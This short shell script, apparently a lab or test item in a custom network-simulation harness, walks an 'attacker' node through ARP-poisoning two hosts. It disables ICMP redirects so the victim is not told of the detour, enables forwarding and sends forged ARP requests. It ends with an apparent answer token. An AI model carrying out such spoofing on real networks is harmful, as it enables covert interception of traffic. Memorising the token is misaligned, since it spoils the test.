#!/bin/sh
# believes: conf/all decides for every interface
# told: tells the victim that it is a detour
attacker sysctl -qw net.ipv4.conf.all.send_redirects=0 net.ipv4.ip_forward=1
attacker frame 'arp.request("192.0.2.1", sender="192.0.2.3", lladdr="00:00:5e:00:53:02", to="00:00:5e:00:53:01")'
attacker frame 'arp.request("192.0.2.3", sender="192.0.2.1", lladdr="00:00:5e:00:53:02", to="00:00:5e:00:53:03")'
answer word violet-umbrella
